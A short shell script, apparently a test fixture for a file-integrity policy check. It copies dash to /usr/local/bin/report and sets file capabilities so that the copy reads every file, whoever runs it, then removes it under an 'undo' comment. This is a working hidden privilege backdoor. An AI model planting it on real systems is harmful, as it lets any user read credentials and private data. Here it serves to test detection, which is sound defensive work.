#!/bin/sh
# A shell that reads every file, whoever starts it, without a set-user-ID bit.
# host: store
# check: policies/article7/test_protection_closed_world.py::test_every_file_of_the_system_is_known[store]
# finding: nobody expects attribute security.capability of /usr/local/bin/report: dac_override,dac_read_search effective
set -eu
cp /usr/bin/dash /usr/local/bin/report
python3 -c "import os, struct; os.setxattr('/usr/local/bin/report', 'security.capability', struct.pack('<5I', 0x02000001, 6, 0, 0, 0))"
# undo
rm /usr/local/bin/report
